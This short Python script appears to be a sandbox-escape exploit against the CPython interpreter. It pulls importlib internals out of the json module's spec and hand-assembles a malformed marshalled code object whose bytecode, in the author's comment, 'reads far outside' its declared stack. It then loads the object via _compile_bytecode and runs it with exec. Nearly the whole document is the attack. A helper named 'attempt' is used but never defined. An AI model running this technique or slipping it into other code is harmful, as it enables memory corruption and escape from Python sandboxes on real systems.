import json
f = json.__spec__.loader.get_code.__func__.__globals__
# A code object: argcount 0, stacksize 1, and code that reads far outside.
def long(n): return n.to_bytes(4, "little")
def text(s): return b"z" + bytes([len(s)]) + s
def data(b): return b"s" + long(len(b)) + b
empty = b")\0"
raw = (b"c" + long(0) * 3 + long(1) + long(3) + data(b"\x54\xff" * 200) + empty + empty + empty + data(b"")
       + text(b"f") * 3 + long(1) + data(b"") + data(b""))
code = attempt(f["_compile_bytecode"], raw)
if code: exec(code)
